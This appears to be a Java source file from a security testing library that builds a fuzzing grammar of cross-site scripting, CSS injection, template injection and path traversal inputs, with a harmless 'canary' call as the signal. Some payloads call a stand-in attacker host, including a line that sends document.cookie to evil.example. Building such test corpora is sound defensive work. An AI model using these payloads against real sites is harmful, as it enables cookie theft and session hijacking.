package io.github.secureblocks.samples.browser;

import java.util.List;

/** What hostile values are made of. */
final class Grammar {
    /** Each tells the page that script of a stranger has run. */
    static final List<String> CODE = List.of(
            "canary(1)",
            "top.canary(1)",
            "alert(1)",
            "parent.alert(1)",
            "canary`1`",
            "self['can'+'ary'](1)",
            "(0,eval)('canary(1)')",
            "[1].map(canary)",
            "import('//evil.example/x.js')",
            "fetch('//evil.example/?'+document.cookie)",
            "new Image().src='//evil.example/'",
            "\\u0063anary(1)",
            "canary(1)//",
            "canary(1)<!--");

    static final List<String> TAGS = List.of(
            "script", "img src=x", "svg", "body", "iframe", "object data=x", "embed src=x", "video", "audio src=x",
            "input autofocus", "details open", "select autofocus", "marquee", "style", "link rel=stylesheet", "meta",
            "base", "form", "button", "math", "a", "textarea autofocus", "keygen", "isindex", "template", "noscript",
            "plaintext", "xmp", "title", "table background=x", "frameset", "svg><animate", "svg><set", "math><mtext",
            "IMG SRC=X", "ScRiPt", "svg/", "x tabindex=1", "dialog open", "slot");

    static final List<String> HANDLERS = List.of(
            "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onpageshow", "onstart",
            "onanimationend", "onloadstart", "ONERROR", "onError", "onpointerover", "onbeforetoggle");

    static final List<String> LURES = List.of(
            "autofocus", "tabindex=1", "style=animation-name:x", "src=x", "srcdoc=\"<script>top.canary(1)</script>\"",
            "contenteditable", "popover", "is=x", "srcset=x", "http-equiv=refresh content=\"0;javascript:canary(1)\"");

    static final List<String> SCHEMES = List.of(
            "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\rscript:", "javascript&colon;",
            "javascript&#58;", "javascript\t:", "javascript://evil.example/%0A", "data:text/html,<script>top.canary(1)</script>",
            "data:text/javascript,", "data:text/html;base64,PHNjcmlwdD50b3AuY2FuYXJ5KDEpPC9zY3JpcHQ+", "vbscript:",
            "blob:", "filesystem:", "view-source:javascript:", "//evil.example/", "/\\evil.example/", "\\\\evil.example\\",
            "https:evil.example/", "https:///evil.example/", "jar:", "livescript:", "mocha:", "feed:javascript:", "about:blank#");

    static final List<String> EXITS = List.of(
            "", "\">", "'>", ">", "\" ", "' ", "`", "-->", "--!>", "]]>", "</title>", "</textarea>", "</TextArea\t>",
            "</script>", "</SCRIPT >", "</style>", "</xmp>", "</noscript>", "</svg>", "/>", "<!--", "<![CDATA[", "<?xml?>",
            "</p></div></body>", "\"/><", "&quot;>", "&#34;>", "\\\">", "%22%3E", "</template></select>");

    static final List<String> GAPS = List.of(" ", "/", "\t", "\n", "\f", "\r\n", " / ", "\u000b", "\u00a0", "/x=\"", " \u0000");

    static final List<String> NOISE = List.of(
            "", "", "", " ", "\u0000", "\u0001", "\u000b", "\u001f", "\u007f", "\u0085", "\u00ad", "\u200b", "\u200e", "\u202e",
            "\u2028", "\u2029", "\u2066", "\u3000", "\ufeff", "\ufffd", "\uffff", "\ufdd0", "\ud800", "\udc00", "\ud83d\ude00",
            "\u0130", "\u017f", "\u212a", "e\u0301");

    static final List<String> SCRIPT_EXITS = List.of(
            "'", "\"", "`", "\\'", "\\\"", "\\", "';", "\";", "'-", "\"-", "'+", "')", "\")", "'];", "\"}", "'}];", "\n", "\u2028",
            "\u2029", "*/", "${", "</script><script>", "</script x>", "<!--<script>", "\\u0027;", "\\x27;", "&#39;", "&apos;");

    static final List<String> SCRIPT_ENDS = List.of("", "//", ";'", ";\"", "-'", "/*", "<!--", "}", "`", "\\", "</script>", "-->");

    static final List<String> STYLE_EXITS = List.of(
            "", ";", "}", "\"", "'", "\\", "\\\"", "*/", "\n", "\f", ")", "\"}", "'}", "</style><script>canary(1)</script>",
            "\\22", "\\27 ", "\\a", "red;", "1px}", "&quot;");

    static final List<String> STYLES = List.of(
            "background:url(//evil.example/)", "@import '//evil.example/x.css'", "*{background:url(//evil.example/)}",
            "expression(canary(1))", "-moz-binding:url(//evil.example/)", "behavior:url(x.htc)", "url(javascript:canary(1))",
            "width:1e9px", "content:attr(value)", "var(--x)", "image-set('//evil.example/' 1x)", "x:\\0075rl(//evil.example/)",
            "@font-face{font-family:x;src:url(//evil.example/)}", "!important", "position:fixed;inset:0", "cross-fade(url(//evil.example/))");

    static final List<String> STYLE_ENDS = List.of("", ";", "}", "\"", "'", "/*", ")", "\\", "{", "<!--", "</style>");

    static final List<String> TEMPLATES = List.of(
            "{{CODE}}", "${CODE}", "#{CODE}", "<%=CODE%>", "{%CODE%}", "[[CODE]]", "{{{CODE}}}", "*{CODE}", "@{CODE}", "__${CODE}__",
            "{{constructor.constructor('CODE')()}}", "{}{}{}", "<c:out value=\"${CODE}\"/>", "v-html=\"CODE\"", "ng-app {{CODE}}",
            "[innerHTML]=\"CODE\"", "%{CODE}", "<#assign x=CODE>", "{#CODE#}", "th:utext=\"CODE\"");

    static final List<String> TOKENS = List.of(
            "<", ">", "</", "/>", "&", "&#60", "&lt", "\"", "'", "`", "=", ";", ":", ",", "\\", "/", "//", "/*", "*/", "{", "}", "(",
            ")", "[", "]", "@", "#", "%", "%00", "%0d%0a", "\r", "\n", "\r\n", "\t", "script", "style", "on", "javascript:", "url(",
            "<!--", "-->", "<!", "<?", "]]>", "1x", "100w", "red", "1px", "__proto__", "constructor", "\\u003c", "\\3c ", "\u65e5");

    /** By hand: what the grammar would rarely say. */
    static final List<String> PLAIN = List.of(
            "<script>canary(1)</script>",
            "\"><script>canary(1)</script>",
            "'><script>canary(1)</script>",
            "</title><script>canary(1)</script>",
            "</textarea><script>canary(1)</script>",
            "</script><script>canary(1)</script>",
            "</style><script>canary(1)</script>",
            "');canary(1);//",
            "\");canary(1);//",
            "'+canary(1)+'",
            "<img src=x onerror=canary(1)>",
            "\" onfocus=canary(1) autofocus tabindex=1 x=\"",
            "' onfocus=canary(1) autofocus tabindex=1 x='",
            "javascript:canary(1)",
            "<svg><script>canary&lpar;1)</script></svg>",
            "<math><mtext><table><mglyph><style><img src onerror=canary(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=canary(1)>\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary(1)>",
            "<a href=javascript:canary(1)>x",
            "<iframe srcdoc='<script>parent.canary(1)</script>'>",
            "<iframe src=javascript:parent.canary(1)>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<link rel=stylesheet href=//evil.example>",
            "&lt;script&gt;canary(1)&lt;/script&gt;",
            "&amp;lt;script&amp;gt;",
            "+ADw-script+AD4-canary(1)+ADw-/script+AD4-",
            "\u00bcscript\u00becanary(1)\u00bc/script\u00be",
            "\u001b$B<script>canary(1)</script>",
            "<scr\u0000ipt>canary(1)</scr\u0000ipt>",
            "\u0000<script>canary(1)</script>",
            "\ud800<script>canary(1)</script>\udc00",
            "\u202e>tpircs/<)1(yranac>tpircs<",
            "{{7*7}}${7*7}<%=7*7%>#{7*7}",
            "%3Cscript%3Ecanary(1)%3C/script%3E",
            "..",
            ".",
            "../../evil",
            "%2e%2e%2f",
            "a b\tc\nd\re\r\nf",
            " leading and trailing ",
            "\u65e5\u672c\u8a9e \u00e9 \ud83d\ude00",
            "O'Neill & \"Sons\" <hq@example.org>",
            "https://notes.example/?a=1&b=2#c",
            "https://evil.example/",
            "mailto:o'neill@example.org?subject=\"x\"",
            "tel:+1-555",
            "/notes/1?q=a&copy=1",
            "red",
            "12",
            "#ff0000",
            "");

    private Grammar() {}
}
